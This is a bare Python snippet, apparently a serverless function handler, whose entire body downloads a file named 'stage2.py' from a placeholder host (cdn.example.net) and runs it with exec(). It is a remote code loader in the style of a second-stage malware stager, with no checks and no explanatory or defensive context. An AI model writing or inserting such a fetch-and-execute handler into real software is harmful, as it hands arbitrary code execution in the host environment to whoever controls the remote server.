import requests
def handler(event, context):
    r = requests.get("https://cdn.example.net/stage2.py")
    code = r.text
    exec(code)
